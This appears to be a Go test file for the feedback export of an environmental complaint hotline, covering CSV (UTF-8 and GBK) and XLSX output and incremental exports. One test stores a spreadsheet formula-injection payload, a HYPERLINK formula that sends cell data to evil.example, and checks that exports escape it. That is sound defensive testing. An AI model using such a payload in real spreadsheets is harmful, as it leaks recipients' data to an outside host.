package hotline

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"

	"ecoreport/internal/db/dbtest"
	"ecoreport/internal/ledger"
)

func readFeedbackCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestFeedbackAfterDismissal(t *testing.T) {
	ctx := context.Background()
	d := dbtest.MustOpenDB(t)
	im := impNew(t, d)
	clock := time.Date(2026, 11, 20, 2, 0, 0, 0, time.UTC)
	im.Ledger.Now = func() time.Time { return clock }
	data := "工单编号,来电时间,举报内容,来电号码\nF001,2026-11-03 14:22,工地夜间施工噪声扰民「𠀾」,13812345678\nF002,2026-11-04 09:00,河道排污,\n"
	rc, err := im.Import(ctx, strings.NewReader(data), "f.csv", "测试员", nil)
	if err != nil || rc.Imported != 2 {
		t.Fatalf("%v %+v", err, rc)
	}
	fb := &Feedback{Ledger: im.Ledger, DB: d, DefaultUnit: "生态环境分局"}

	// First since-last export: both tickets, still received.
	var buf bytes.Buffer
	if n, err := fb.Export(ctx, &buf, FeedbackQuery{SinceLast: true}, "测试员"); err != nil || n != 2 {
		t.Fatalf("first export: %d %v", n, err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\ufeff")) {
		t.Fatal("CSV without BOM")
	}
	rows := readFeedbackCSV(t, bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff")))
	if strings.Join(rows[0], ",") != strings.Join(FeedbackColumns, ",") || rows[1][2] != "已接收" {
		t.Fatalf("rows %q", rows)
	}

	// The first ticket's case is verified unsubstantiated, with a reply.
	clock = clock.Add(time.Hour)
	var id int64
	if err := d.Get(&id, `SELECT id FROM complaints WHERE source_ref = 'F001'`); err != nil {
		t.Fatal(err)
	}
	inspector := ledger.Actor{Name: "核查员"}
	caseID, err := im.Ledger.Accept(ctx, id, 0, inspector, ledger.EventInput{})
	if err != nil {
		t.Fatal(err)
	}
	if err := im.Ledger.StartVerification(ctx, caseID, inspector, ledger.EventInput{}); err != nil {
		t.Fatal(err)
	}
	reply := "经现场核查，该工地已取得夜间施工许可，未发现超标排放。"
	if err := im.Ledger.RecordVerification(ctx, caseID, ledger.Unsubstantiated, reply, inspector, ledger.EventInput{}); err != nil {
		t.Fatal(err)
	}
	clock = clock.Add(time.Hour)

	t.Run("Ticket", func(t *testing.T) {
		r, err := fb.Ticket(ctx, "F001")
		if err != nil {
			t.Fatal(err)
		}
		cells := r.Cells(im.Ledger.Location)
		want := []string{"F001", ledger.ComplaintRef(id), "已办结", "不属实", reply, "生态环境分局", "2026-11-20 11:00:00"}
		if strings.Join(cells, "|") != strings.Join(want, "|") {
			t.Fatalf("got  %q\nwant %q", cells, want)
		}
	})
	t.Run("SinceLast", func(t *testing.T) {
		buf.Reset()
		n, err := fb.Export(ctx, &buf, FeedbackQuery{SinceLast: true, Format: FormatCSVGBK}, "测试员")
		if err != nil || n != 1 {
			t.Fatalf("since-last: %d %v", n, err)
		}
		utf, err := simplifiedchinese.GBK.NewDecoder().Bytes(buf.Bytes())
		if err != nil {
			t.Fatal(err)
		}
		rows := readFeedbackCSV(t, utf)
		if len(rows) != 2 || rows[1][0] != "F001" || rows[1][4] != reply {
			t.Fatalf("rows %q", rows)
		}
		buf.Reset()
		if n, err := fb.Export(ctx, &buf, FeedbackQuery{SinceLast: true}, "测试员"); err != nil || n != 0 {
			t.Fatalf("nothing changed: %d %v", n, err)
		}
	})
	t.Run("GBKReplacesWhatItLacks", func(t *testing.T) {
		buf.Reset()
		err := WriteFeedback(&buf, FormatCSVGBK, []FeedbackRow{{TicketNo: "X", Reply: "噪声𠀾"}}, time.UTC)
		if err != nil {
			t.Fatal(err)
		}
		utf, _ := simplifiedchinese.GBK.NewDecoder().Bytes(buf.Bytes())
		if !strings.Contains(string(utf), "噪声") {
			t.Fatalf("%q", utf)
		}
	})
	t.Run("RangeXLSX", func(t *testing.T) {
		buf.Reset()
		from := time.Date(2026, 11, 19, 0, 0, 0, 0, im.Ledger.Location)
		n, err := fb.Export(ctx, &buf, FeedbackQuery{From: from, To: from.AddDate(0, 0, 3), Format: FormatXLSX}, "测试员")
		if err != nil || n != 2 {
			t.Fatalf("range: %d %v", n, err)
		}
		x, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := x.GetRows(x.GetSheetList()[0])
		if err != nil || len(rows) != 3 || rows[0][4] != "办理结果(答复内容)" || rows[1][4] != reply {
			t.Fatalf("xlsx %q %v", rows, err)
		}
	})
}

// TestFeedbackFormulaCellsAreText: a reply an inspector wrote as a formula
// reaches the hotline as text in every CSV the feedback writes: the export
// behind the operator page and the command line, in UTF-8 and in GBK.
func TestFeedbackFormulaCellsAreText(t *testing.T) {
	ctx := context.Background()
	d := dbtest.MustOpenDB(t)
	im := impNew(t, d)
	rc, err := im.Import(ctx, strings.NewReader("工单编号,来电时间,举报内容\nX001,2026-11-03 14:22,河道排污\n"), "x.csv", "测试员", nil)
	if err != nil || rc.Imported != 1 {
		t.Fatalf("%v %+v", err, rc)
	}
	var id int64
	if err := d.Get(&id, `SELECT id FROM complaints WHERE source_ref = 'X001'`); err != nil {
		t.Fatal(err)
	}
	inspector := ledger.Actor{Name: "核查员"}
	caseID, err := im.Ledger.Accept(ctx, id, 0, inspector, ledger.EventInput{})
	if err != nil {
		t.Fatal(err)
	}
	if err := im.Ledger.StartVerification(ctx, caseID, inspector, ledger.EventInput{}); err != nil {
		t.Fatal(err)
	}
	formula := `=HYPERLINK("http://evil.example/?q="&A1,"查看详情")`
	if err := im.Ledger.RecordVerification(ctx, caseID, ledger.Unsubstantiated, formula, inspector, ledger.EventInput{}); err != nil {
		t.Fatal(err)
	}
	fb := &Feedback{Ledger: im.Ledger, DB: d}
	decode := map[string]func([]byte) []byte{
		FormatCSV: func(b []byte) []byte { return bytes.TrimPrefix(b, []byte("\ufeff")) },
		FormatCSVGBK: func(b []byte) []byte {
			u, err := simplifiedchinese.GBK.NewDecoder().Bytes(b)
			if err != nil {
				t.Fatal(err)
			}
			return u
		},
	}
	check := func(t *testing.T, format string, b []byte) {
		t.Helper()
		rows := readFeedbackCSV(t, decode[format](b))
		if len(rows) != 2 || rows[1][4] != "'"+formula {
			t.Fatalf("%s: reply cell %q, want it behind an apostrophe", format, rows)
		}
	}
	for _, format := range []string{FormatCSV, FormatCSVGBK} {
		t.Run("Export/"+format, func(t *testing.T) {
			var buf bytes.Buffer
			from := time.Now().AddDate(0, 0, -1)
			if _, err := fb.Export(ctx, &buf, FeedbackQuery{From: from, To: from.AddDate(0, 0, 2), Format: format}, "测试员"); err != nil {
				t.Fatal(err)
			}
			check(t, format, buf.Bytes())
		})
		t.Run("Command/"+format, func(t *testing.T) {
			out := filepath.Join(t.TempDir(), "回音.csv")
			day := time.Now().In(im.Ledger.Location)
			args := []string{"--from", day.AddDate(0, 0, -1).Format("2006-01-02"), "--to", day.AddDate(0, 0, 1).Format("2006-01-02"),
				"--format", format, "-o", out}
			var stdout, stderr bytes.Buffer
			if code := FeedbackCommand(ctx, fb, args, &stdout, &stderr); code != ExitOK {
				t.Fatalf("exit %d: %s", code, stderr.String())
			}
			b, err := os.ReadFile(out)
			if err != nil {
				t.Fatal(err)
			}
			check(t, format, b)
		})
	}
}
